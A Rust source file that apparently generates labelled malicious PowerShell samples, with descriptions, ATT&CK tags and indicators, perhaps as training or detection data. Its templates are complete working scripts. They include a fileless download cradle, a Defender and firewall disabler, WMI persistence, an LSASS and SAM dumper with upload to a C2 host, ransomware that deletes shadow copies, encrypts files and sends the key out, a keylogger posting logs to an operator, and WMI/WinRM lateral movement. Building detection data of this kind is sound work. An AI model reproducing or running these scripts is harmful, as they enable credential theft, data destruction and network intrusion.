//! PowerShell: attacker tooling families.

use rand::Rng;

use super::names::{self, fill, pick, R};
use super::{Draft, Family};

pub(crate) const FAMILIES: &[Family] = &[
    Family {
        name: "download-cradle",
        description: "A PowerShell download cradle that loads and runs a remote script in memory",
        gen: cradle,
    },
    Family {
        name: "defender-exclusion",
        description:
            "A defence evasion script that adds Defender exclusions and switches off protections",
        gen: defender,
    },
    Family {
        name: "wmi-event-persistence",
        description: "A persistence script that installs a WMI event subscription",
        gen: wmi_persist,
    },
    Family {
        name: "lsass-dump",
        description: "A credential dumper that copies LSASS memory and registry hives",
        gen: lsass,
    },
    Family {
        name: "ransomware",
        description: "Ransomware that destroys backups, encrypts files and leaves a ransom note",
        gen: ransomware,
    },
    Family {
        name: "keylogger",
        description: "A keylogger that records keystrokes and ships them to an operator",
        gen: keylogger,
    },
    Family {
        name: "wmi-lateral-movement",
        description:
            "A lateral movement script that runs payloads on remote hosts over WMI and WinRM",
        gen: lateral,
    },
];

fn cradle(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let url = format!(
        "{}://{host}{}.ps1",
        pick(r, &["http", "https"]),
        names::url_path(r)
    );
    let v = r.random_range(0..3);
    let line = match v {
        0 => format!("IEX (New-Object Net.WebClient).DownloadString('{url}')"),
        1 => format!("$r = Invoke-WebRequest -Uri '{url}' -UseBasicParsing -UserAgent 'Mozilla/5.0'\nInvoke-Expression $r.Content"),
        _ => format!("$wc = New-Object System.Net.WebClient\n$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0)')\n$wc.Proxy = [Net.WebRequest]::GetSystemWebProxy()\n$wc.Proxy.Credentials = [Net.CredentialCache]::DefaultNetworkCredentials\n[ScriptBlock]::Create($wc.DownloadString('{url}')).Invoke()"),
    };
    let mut c = String::new();
    if r.random_bool(0.6) {
        c.push_str("[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }\n");
    }
    if r.random_bool(0.5) {
        c.push_str("if ((Get-WmiObject Win32_ComputerSystem).Model -match 'Virtual|VMware|VirtualBox') { exit }\n");
    }
    c.push_str(&line);
    c.push('\n');
    Draft {
        content: c.clone(),
        purpose: format!("downloads a PowerShell script from {host} and executes it in memory"),
        steps: vec![
            if c.contains("ServerCertificateValidationCallback") { "forces TLS 1.2 and disables certificate validation with a callback that always returns true".into() } else { "prepares a WebClient or Invoke-WebRequest call".to_string() },
            if c.contains("VirtualBox") { "exits when Win32_ComputerSystem reports a VMware, VirtualBox or other virtual model, to dodge sandboxes".into() } else { "uses a browser-like User-Agent for the request".to_string() },
            format!("downloads {url} and runs the text directly with Invoke-Expression or a ScriptBlock, so nothing is written to disk"),
        ],
        effects: vec![format!("Whatever {host} serves runs with the user's privileges and leaves no file for scanners.")],
        behaviours: vec![
            "Executes PowerShell (T1059.001)".into(),
            "Downloads remote code (T1105)".into(),
            "Fileless in-memory execution (T1620)".into(),
        ],
        iocs: vec![url],
    }
}

fn defender(r: &mut R) -> Draft {
    let dir = names::ps_drop_dir(r);
    let ext = pick(r, &[".exe", ".dll", ".ps1", ".tmp"]);
    let proc_name = format!("{}.exe", names::stealth_name(r));
    let mut c = String::from("if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) {\n    Start-Process powershell.exe \"-NoP -W Hidden -File `\"$PSCommandPath`\"\" -Verb RunAs\n    exit\n}\n\n");
    c.push_str(&fill(
        r#"Add-MpPreference -ExclusionPath "@DIR@" -Force
Add-MpPreference -ExclusionExtension '@EXT@' -Force
Add-MpPreference -ExclusionProcess '@PROC@' -Force
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true
Set-MpPreference -MAPSReporting Disabled -SubmitSamplesConsent NeverSend
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force | Out-Null
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
Get-Service -Name WinDefend, Sense, WdNisSvc -ErrorAction SilentlyContinue | Stop-Service -Force -ErrorAction SilentlyContinue
"#,
        &[("DIR", dir), ("EXT", ext), ("PROC", &proc_name)],
    ));
    Draft {
        content: c,
        purpose: format!("blinds Microsoft Defender by excluding {dir}, {ext} files and {proc_name} and disabling real-time protection"),
        steps: vec![
            "relaunches itself elevated with Start-Process -Verb RunAs when not running as Administrator".into(),
            format!("adds Defender exclusions for the path {dir}, the extension {ext} and the process {proc_name} with Add-MpPreference"),
            "turns off real-time, behaviour, IOAV and script scanning and cloud sample submission with Set-MpPreference".into(),
            "sets the DisableAntiSpyware policy value, disables all firewall profiles with Set-NetFirewallProfile and stops WinDefend and Sense".into(),
        ],
        effects: vec!["Any payload placed in the excluded locations runs without antivirus inspection or firewall filtering.".into()],
        behaviours: vec![
            "Adds Defender exclusions (T1562.001)".into(),
            "Disables the firewall (T1562.004)".into(),
            "Abuses elevation prompts (T1548.002)".into(),
        ],
        iocs: vec!["Add-MpPreference -ExclusionPath".into(), proc_name, "DisableRealtimeMonitoring".into()],
    }
}

fn wmi_persist(r: &mut R) -> Draft {
    let name = names::pascal(names::stealth_name(r));
    let host = names::c2_host(r);
    let url = format!("http://{host}{}", names::url_path(r));
    let secs = r.random_range(60..900);
    let c = fill(
        r#"$Name = '@NAME@'
$Cmd = "powershell.exe -NoP -W Hidden -C `"IEX (New-Object Net.WebClient).DownloadString('@URL@')`""
$Query = "SELECT * FROM __InstanceModificationEvent WITHIN @SECS@ WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"

$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
    Name = $Name; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = $Query
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name = $Name; CommandLineTemplate = $Cmd
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{
    Filter = $filter; Consumer = $consumer
} | Out-Null
"#,
        &[("NAME", &name), ("URL", &url), ("SECS", &secs.to_string())],
    );
    Draft {
        content: c,
        purpose: format!("installs a WMI event subscription named {name} that re-downloads and runs a script from {host}"),
        steps: vec![
            format!("defines a WQL __InstanceModificationEvent query polled every {secs} seconds that fires once uptime passes 240 seconds"),
            "creates an __EventFilter in root\\subscription with Set-WmiInstance".into(),
            format!("creates a CommandLineEventConsumer whose command runs hidden PowerShell with IEX DownloadString on {url}"),
            "binds both with a __FilterToConsumerBinding".into(),
        ],
        effects: vec!["After every boot the WMI service itself launches the download cradle as SYSTEM, with no file in any autorun folder.".into()],
        behaviours: vec![
            "Persists via WMI event subscription (T1546.003)".into(),
            "Downloads remote code (T1105)".into(),
        ],
        iocs: vec![url, "CommandLineEventConsumer".into(), name],
    }
}

fn lsass(r: &mut R) -> Draft {
    let dir = pick(
        r,
        &["C:\\Windows\\Temp", "C:\\ProgramData", "C:\\Users\\Public"],
    );
    let f = names::token(r, 6);
    let host = names::c2_host(r);
    let c = fill(
        r#"$out = '@DIR@\@F@'
$lsass = Get-Process lsass
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id "$out.dmp" full
reg.exe save HKLM\SAM "$out.sam" /y | Out-Null
reg.exe save HKLM\SYSTEM "$out.sys" /y | Out-Null
reg.exe save HKLM\SECURITY "$out.sec" /y | Out-Null
Compress-Archive -Path "$out.*" -DestinationPath "$out.zip" -Force
$bytes = [IO.File]::ReadAllBytes("$out.zip")
Invoke-RestMethod -Uri 'https://@HOST@/up' -Method Post -Body $bytes -ContentType 'application/octet-stream'
Remove-Item "$out.*" -Force
"#,
        &[("DIR", dir), ("F", &f), ("HOST", &host)],
    );
    Draft {
        content: c,
        purpose: format!("dumps LSASS memory and the SAM, SYSTEM and SECURITY hives and uploads them to {host}"),
        steps: vec![
            "finds the lsass process id with Get-Process".into(),
            format!("writes a full minidump to {dir}\\{f}.dmp through rundll32.exe comsvcs.dll MiniDump"),
            "saves HKLM\\SAM, HKLM\\SYSTEM and HKLM\\SECURITY with reg.exe save".into(),
            format!("zips the files and posts them with Invoke-RestMethod to https://{host}/up, then deletes the local copies"),
        ],
        effects: vec!["Plain-text passwords, NTLM hashes and cached domain credentials of logged-on users can be extracted offline from the dump.".into()],
        behaviours: vec![
            "Dumps LSASS memory (T1003.001)".into(),
            "Dumps SAM hives (T1003.002)".into(),
            "Proxies execution through rundll32 (T1218.011)".into(),
            "Exfiltrates over HTTPS (T1041)".into(),
        ],
        iocs: vec!["comsvcs.dll".into(), format!("https://{host}/up"), "HKLM\\SAM".into()],
    }
}

fn ransomware(r: &mut R) -> Draft {
    let ext = format!(".{}", names::token(r, 6));
    let onion = format!("http://{}.onion", names::token(r, 56));
    let id = names::token(r, 16).to_uppercase();
    let host = names::c2_host(r);
    let c = fill(
        r#"$ErrorActionPreference = 'SilentlyContinue'
$ext = '@EXT@'
$note = @"
All your files have been encrypted with AES-256.
Your ID: @ID@
Visit @ONION@ with Tor Browser to buy the decryptor.
Do not rename files or use third-party tools.
"@

vssadmin.exe delete shadows /all /quiet
Get-CimInstance Win32_ShadowCopy | Remove-CimInstance

$aes = [Security.Cryptography.Aes]::Create()
$aes.KeySize = 256
$aes.GenerateKey(); $aes.GenerateIV()
$keyBlob = [Convert]::ToBase64String($aes.Key + $aes.IV)
Invoke-RestMethod -Uri 'http://@HOST@/k' -Method Post -Body @{ id = '@ID@'; k = $keyBlob } | Out-Null

function Lock-File([string]$Path) {
    $data = [IO.File]::ReadAllBytes($Path)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($data, 0, $data.Length)
    [IO.File]::WriteAllBytes($Path + $ext, $enc)
    Remove-Item -LiteralPath $Path -Force
}

$targets = Get-PSDrive -PSProvider FileSystem | ForEach-Object { $_.Root }
foreach ($root in $targets) {
    Get-ChildItem -Path $root -Recurse -File -Include *.docx, *.xlsx, *.pdf, *.pptx, *.jpg, *.png, *.sql, *.mdb, *.zip |
        Where-Object { $_.FullName -notmatch '\\Windows\\|\\Program Files' } |
        ForEach-Object {
            Lock-File $_.FullName
            Set-Content -Path (Join-Path $_.DirectoryName 'HOW_TO_DECRYPT.txt') -Value $note
        }
}
$aes.Dispose()
"#,
        &[
            ("EXT", &ext),
            ("ID", &id),
            ("ONION", &onion),
            ("HOST", &host),
        ],
    );
    Draft {
        content: c,
        purpose: format!("encrypts documents on every drive with AES-256, appends {ext} and leaves HOW_TO_DECRYPT.txt ransom notes"),
        steps: vec![
            "deletes shadow copies with vssadmin.exe delete shadows /all /quiet and Remove-CimInstance on Win32_ShadowCopy".into(),
            format!("generates a random AES-256 key and IV and posts them with the victim id {id} to http://{host}/k"),
            "enumerates every file-system drive with Get-PSDrive and recursively selects Office documents, PDFs, images, databases and archives outside Windows and Program Files".into(),
            format!("encrypts each with TransformFinalBlock, writes the result with the {ext} extension and deletes the original"),
            format!("drops HOW_TO_DECRYPT.txt in each folder pointing to {onion}"),
        ],
        effects: vec!["User data becomes unreadable without the key held by the operator, and local restore points are gone.".into()],
        behaviours: vec![
            "Encrypts files for impact (T1486)".into(),
            "Inhibits system recovery (T1490)".into(),
            "Exfiltrates the encryption key over HTTP (T1041)".into(),
        ],
        iocs: vec![ext, format!("http://{host}/k"), "HOW_TO_DECRYPT.txt".into()],
    }
}

fn keylogger(r: &mut R) -> Draft {
    let log = format!("{}\\{}.dat", names::ps_drop_dir(r), names::token(r, 6));
    let host = names::c2_host(r);
    let mins = r.random_range(5..60);
    let c = fill(
        r#"$sig = @'
[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);
[DllImport("user32.dll")] public static extern int GetForegroundWindow();
[DllImport("user32.dll")] public static extern int GetWindowText(int hWnd, System.Text.StringBuilder text, int count);
'@
$api = Add-Type -MemberDefinition $sig -Name Win32Keys -Namespace Util -PassThru
$log = "@LOG@"
$last = ''
$sent = Get-Date

while ($true) {
    Start-Sleep -Milliseconds 40
    $sb = New-Object System.Text.StringBuilder 256
    [void]$api::GetWindowText($api::GetForegroundWindow(), $sb, 256)
    if ($sb.ToString() -ne $last) { $last = $sb.ToString(); Add-Content $log "`n[$last] " -NoNewline }
    for ($k = 8; $k -le 254; $k++) {
        if ($api::GetAsyncKeyState($k) -eq -32767) {
            Add-Content $log ([char]$k) -NoNewline
        }
    }
    if (((Get-Date) - $sent).TotalMinutes -ge @MINS@) {
        Invoke-WebRequest -Uri 'http://@HOST@/log.php' -Method Post -Body (Get-Content $log -Raw) -UseBasicParsing | Out-Null
        Clear-Content $log
        $sent = Get-Date
    }
}
"#,
        &[("LOG", &log), ("HOST", &host), ("MINS", &mins.to_string())],
    );
    Draft {
        content: c,
        purpose: format!("logs keystrokes with the window titles they were typed into and uploads them to {host} every {mins} minutes"),
        steps: vec![
            "compiles P/Invoke signatures for GetAsyncKeyState, GetForegroundWindow and GetWindowText from user32.dll with Add-Type".into(),
            "polls every virtual key code from 8 to 254 every 40 milliseconds".into(),
            format!("appends pressed keys and the current window title to {log}"),
            format!("posts the log to http://{host}/log.php with Invoke-WebRequest every {mins} minutes and clears it"),
        ],
        effects: vec!["Passwords and messages the user types are recorded with their context and sent off the machine.".into()],
        behaviours: vec![
            "Captures keystrokes (T1056.001)".into(),
            "Uses the Windows API through P/Invoke (T1106)".into(),
            "Exfiltrates over HTTP (T1041)".into(),
        ],
        iocs: vec!["GetAsyncKeyState".into(), format!("http://{host}/log.php"), log],
    }
}

fn lateral(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let url = format!("http://{host}{}", names::url_path(r));
    let c = fill(
        r#"$cred = New-Object Management.Automation.PSCredential('@DOM@\@USER@', (ConvertTo-SecureString '@PASS@' -AsPlainText -Force))
$stage = "powershell -NoP -W Hidden -C IEX(New-Object Net.WebClient).DownloadString('@URL@')"
$computers = ([adsisearcher]'(objectCategory=computer)').FindAll() | ForEach-Object { $_.Properties.dnshostname }

foreach ($c in $computers) {
    if (-not (Test-Connection -ComputerName $c -Count 1 -Quiet)) { continue }
    try {
        Invoke-WmiMethod -ComputerName $c -Credential $cred -Class Win32_Process -Name Create -ArgumentList $stage | Out-Null
    } catch {
        Invoke-Command -ComputerName $c -Credential $cred -ScriptBlock { param($s) cmd.exe /c $s } -ArgumentList $stage -AsJob | Out-Null
    }
}
"#,
        &[
            ("DOM", &names::company(r).to_uppercase()),
            ("USER", names::user(r)),
            (
                "PASS",
                &format!(
                    "{}{}!",
                    names::pascal(names::word(r)),
                    r.random_range(1990..2030)
                ),
            ),
            ("URL", &url),
        ],
    );
    Draft {
        content: c,
        purpose: format!("runs a download cradle for {url} on every reachable domain computer with harvested credentials"),
        steps: vec![
            "builds a PSCredential from a hard-coded domain account and plain-text password".into(),
            "lists domain computers through an [adsisearcher] LDAP query for objectCategory=computer".into(),
            "pings each with Test-Connection".into(),
            "creates a remote process through Invoke-WmiMethod Win32_Process Create and falls back to Invoke-Command over WinRM".into(),
        ],
        effects: vec![format!("Every reachable workstation and server fetches and runs the script from {host}.")],
        behaviours: vec![
            "Moves laterally with WMI (T1047)".into(),
            "Moves laterally with WinRM (T1021.006)".into(),
            "Discovers domain computers (T1018)".into(),
            "Uses valid accounts (T1078)".into(),
        ],
        iocs: vec![url, "Invoke-WmiMethod".into(), "[adsisearcher]".into()],
    }
}
